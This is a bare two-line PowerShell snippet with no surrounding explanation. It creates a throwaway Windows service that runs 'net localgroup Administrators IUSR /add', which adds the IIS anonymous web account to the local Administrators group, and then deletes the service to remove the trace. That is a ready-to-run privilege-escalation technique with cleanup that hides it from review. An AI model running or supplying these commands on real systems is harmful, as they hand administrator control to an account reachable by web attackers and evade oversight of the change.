New-Service x -BinaryPathName 'cmd /c net localgroup Administrators IUSR /add' -StartupType Automatic | Out-Null
(Get-CimInstance Win32_Service -Filter "Name='x'") | Remove-CimInstance
